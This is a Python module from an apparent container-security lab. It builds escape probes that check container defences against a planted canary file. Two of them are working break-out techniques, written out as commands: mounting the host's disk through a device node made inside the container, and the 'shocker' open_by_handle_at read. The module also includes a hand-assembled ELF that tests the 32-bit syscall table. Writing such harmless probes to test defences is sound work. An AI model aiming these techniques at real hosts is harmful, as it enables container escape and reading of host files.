"""The escape gallery's probes (notebook 08): the canary they read, and each break-out as the
command a container runs. ``labkit.lab.escapes`` runs them.

Every probe is harmless: it reads the canary planted here (a random token in
``/var/tmp/labkit-canary-*``, never one of the host's own files), opens a file for writing
without writing a byte, or makes one system call that changes nothing. The probes of the
process boundary (a descriptor, a terminal, a chroot) are in ``labkit.lab.escape_boundary``.
"""

from __future__ import annotations

import atexit
import base64
import contextlib
import ctypes
import os
import re
import secrets
import struct
import subprocess
from dataclasses import dataclass
from pathlib import Path

from labkit.kernel import procfs, syscall_numbers
from labkit.kernel.mounts import remove_tree

# -- the canary ---------------------------------------------------------------------------------


@dataclass
class Canary:
    """A file on the host's root filesystem with a random token: what an escape reads."""

    path: Path
    token: str

    def remove(self) -> None:
        remove_tree(self.path.parent / SHOCKER_ROOT)
        with contextlib.suppress(FileNotFoundError):
            self.path.unlink()
        with contextlib.suppress(FileNotFoundError):
            self.path.parent.rmdir()
        with contextlib.suppress(ValueError):
            _planted.remove(self)

    def __enter__(self) -> Canary:
        return self

    def __exit__(self, *exc: object) -> None:
        self.remove()


_planted: list[Canary] = []


@atexit.register
def _remove_all() -> None:
    for canary in list(_planted):
        canary.remove()


CANARIES = Path("/var/tmp")
_NAME = re.compile(r"labkit-canary-(\d+)-[0-9a-f]{8}")


def plant_canary() -> Canary:
    """Plant a canary in ``/var/tmp/labkit-canary-PID-XXXX/`` (on the disk the host boots from).

    Remove it with ``.remove()`` or a ``with`` block; one still there when the notebook's
    kernel exits is removed then, and one left by a kernel that was killed (its PID is in the
    name) is removed the next time a canary is planted.
    """
    for old in CANARIES.glob("labkit-canary-*-*"):
        found = _NAME.fullmatch(old.name)
        if found and not Path(f"/proc/{found[1]}").exists():
            Canary(old / "canary", "").remove()
    directory = CANARIES / f"labkit-canary-{os.getpid()}-{secrets.token_hex(4)}"
    directory.mkdir(mode=0o700)
    canary = Canary(directory / "canary", f"labkit-canary-{secrets.token_hex(8)}")
    canary.path.write_text(canary.token + "\n")
    _planted.append(canary)
    return canary


def filesystem_of(path: Path) -> tuple[int, int, str, str]:
    """The block device (major, minor) and type of the filesystem holding ``path``, and the
    path inside that filesystem (what a second mount of the same disk shows)."""
    st = os.stat(path)
    mount = max(
        (m for m in procfs.mountinfo() if str(path).startswith(m.target.rstrip("/") + "/")),
        key=lambda m: len(m.target),
    )
    inside = os.path.join(mount.root, os.path.relpath(path, mount.target)).lstrip("/")
    return os.major(st.st_dev), os.minor(st.st_dev), mount.fstype, inside


class _FileHandle(ctypes.Structure):
    _fields_ = [("bytes", ctypes.c_uint), ("type", ctypes.c_int), ("f", ctypes.c_ubyte * 128)]


def file_handle(path: Path) -> tuple[int, int, str]:
    """name_to_handle_at(2) on the host: (size, type, bytes as hex) of ``path``'s handle.
    The 2014 "shocker" exploit guessed such a handle by trying inode numbers; we look it up."""
    libc = ctypes.CDLL(None, use_errno=True)
    handle, mount_id = _FileHandle(128, 0), ctypes.c_int()
    name = os.fsencode(path)
    if libc.name_to_handle_at(-100, name, ctypes.byref(handle), ctypes.byref(mount_id), 0):
        raise OSError(ctypes.get_errno(), "name_to_handle_at")
    return handle.bytes, handle.type, bytes(handle.f[: handle.bytes]).hex()


# -- the probes against the defences -------------------------------------------------------------


@dataclass(frozen=True)
class Probe:
    """One break-out: the command run inside, the image it needs, and the word on its standard
    output that says it worked (the canary's token, "opened", ...)."""

    key: str
    title: str
    argv: tuple[str, ...]
    marker: str
    image: str = "busybox"
    rootfs: str | None = None  # labkit runs it on this directory instead (--rootfs)

    def escaped(self, stdout: str) -> bool:
        return self.marker in stdout


SHOCKER_ROOT = "debian-root"


def _shocker_root(canary: Canary) -> Path:
    """A copy of the debian image on the canary's disk (made once per canary)."""
    from labkit.images.store import image_rootfs

    root = canary.path.parent / SHOCKER_ROOT
    if not root.is_dir():
        subprocess.run(["cp", "-a", str(image_rootfs("debian")), str(root)], check=True)
    return root


def _sh(script: str) -> tuple[str, ...]:
    return ("sh", "-c", script)


def _table() -> dict[str, int]:
    return getattr(syscall_numbers, os.uname().machine.upper())


def probes(canary: Canary | None = None) -> dict[str, Probe]:
    """The probes against the four defences, keyed by a short name. The two that read the
    canary (``disk``, ``shocker``) are there only when one is given."""
    found = {p.key: p for p in _without_canary()}
    if canary is None:
        return found
    major, minor, fstype, inside = filesystem_of(canary.path)
    disk = (
        f"mkdir -p /tmp/m && mknod /dev/lk-disk b {major} {minor} && "
        f"mount -t {fstype} /dev/lk-disk /tmp/m && cat /tmp/m/{inside}; umount /tmp/m"
    )
    # The handle is decoded by the filesystem of the descriptor passed with it: any file on the
    # host's disk will do. Docker bind-mounts /etc/hosts from there (the 2014 exploit used
    # /.dockerinit the same way). A labkit container of an image has no such file yet (its
    # root is an overlay, which decodes no handles; the networking step adds /etc/hosts), so
    # labkit runs this probe on a copy of the debian image beside the canary, with --rootfs.
    size, kind, data = file_handle(canary.path)
    shocker = (
        'open(my $r, "<", "/etc/hosts") or die; '
        f'my $h = pack("Ii", {size}, {kind}) . pack("H*", "{data}"); '
        f"my $fd = syscall({_table()['open_by_handle_at']}, fileno($r), $h, 0); "
        'if ($fd < 0) { print "refused: $!\\n"; exit 1 } '
        'open(my $f, "<&=", $fd); print <$f>;'
    )
    with_canary = {
        "disk": Probe("disk", "mount the host's disk", _sh(disk), canary.token),
        "shocker": Probe(
            "shocker",
            '"shocker": open_by_handle_at',
            ("perl", "-e", shocker),
            canary.token,
            "debian",
            str(_shocker_root(canary)),
        ),
    }
    found.update(with_canary)
    return {k: found[k] for k in ("disk", "device", "core_pattern", "shocker", *found)}


def _without_canary() -> list[Probe]:
    # keyctl(KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0): needs no capability at all.
    keyring = (
        f"$! = 0; my $id = syscall({_table()['keyctl']}, 0, -3, 0); "
        'print $id > 0 ? "keyring $id\\n" : "refused: $!\\n";'
    )
    found = [
        Probe(
            "device",
            "open a device node made inside",
            _sh("mknod /dev/lk-fuse c 10 229 && exec 3</dev/lk-fuse && echo opened"),
            "opened",
        ),
        Probe(
            "core_pattern",
            "open core_pattern for writing",
            _sh(": >> /proc/sys/kernel/core_pattern && echo opened"),
            "opened",
        ),
        Probe("keyring", "use the kernel keyring", ("perl", "-e", keyring), "keyring", "debian"),
        Probe(
            "unshare", "new namespaces with unshare", _sh("unshare -u true && echo made"), "made"
        ),
    ]
    if os.uname().machine == "x86_64":
        program = base64.b64encode(int80_program()).decode()
        run32 = f"echo {program} | base64 -d > /tmp/lk32 && chmod +x /tmp/lk32 && /tmp/lk32"
        found.append(Probe("syscall32", "a call through the 32-bit table", _sh(run32), "allowed"))
    return found


def int80_program() -> bytes:
    """A 64-bit program (a 277-byte ELF file) that makes one system call through the *32-bit*
    table (``int 0x80``: getpid, number 20 there) and prints what happened, with ordinary
    64-bit calls. An x86_64 kernel serves both tables; a seccomp filter that looked only at
    the number would mix them up, which is why a filter checks the architecture first.

        mov eax, 20 ; int 0x80                 getpid, through the 32-bit table
        rsi, edx = "allowed"   if eax >= 0     a PID came back
        rsi, edx = "failed"    if eax != -1
        rsi, edx = "Operation not permitted"   -1 is -EPERM
        write(1, rsi, edx) ; exit(0)           64-bit calls
    """
    code = bytes.fromhex(
        "b814000000cd80"  # mov eax, 20; int 0x80
        "488d353b000000ba17000000"  # lea rsi, [allowed]; mov edx, 23
        "85c0791d"  # test eax, eax; jns out
        "488d3542000000ba16000000"  # lea rsi, [failed]; mov edx, 22
        "83f8ff750c"  # cmp eax, -1; jne out
        "488d3547000000ba27000000"  # lea rsi, [eperm]; mov edx, 39
        "bf01000000b8010000000f05"  # out: mov edi, 1; mov eax, 1 (write); syscall
        "b83c00000031ff0f05"  # mov eax, 60 (exit); xor edi, edi; syscall
    )
    code += b"32-bit getpid: allowed\n32-bit getpid: failed\n"
    code += b"32-bit getpid: Operation not permitted\n"
    base, start = 0x400000, 64 + 56  # load address; the code follows the two headers
    size = start + len(code)
    elf = b"\x7fELF" + bytes([2, 1, 1]) + bytes(9)  # 64-bit, little-endian, version 1
    elf += struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, base + start, 64, 0, 0, 64, 56, 1, 0, 0, 0)
    elf += struct.pack("<IIQQQQQQ", 1, 5, 0, base, base, size, size, 0x1000)  # PT_LOAD, R+X
    return elf + code
